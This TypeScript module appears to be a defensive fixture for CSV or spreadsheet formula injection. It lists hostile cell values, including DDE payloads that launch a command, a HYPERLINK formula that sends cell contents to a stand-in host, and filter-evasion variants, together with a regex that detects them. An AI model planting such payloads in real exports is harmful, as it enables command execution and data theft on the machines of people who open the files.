/** App names and review texts that a spreadsheet would run as formulas. */
export const HOSTILE = [
  "=1+1",
  "+1+1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1,2)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  '=HYPERLINK("https://example.com/?x="&A1,"click")',
  '"=1+1"',
  " \u200b=1+1",
  "＝1+1",
  '@x;=cmd|"/C calc"!A0\n@x\t+y',
] as const

/** Returns whether a spreadsheet would run the cell. */
export function isFormula(cell: string): boolean {
  return /^[\s"\u200b\u00ad]*[=+\-@＝＋－＠]/u.test(cell)
}
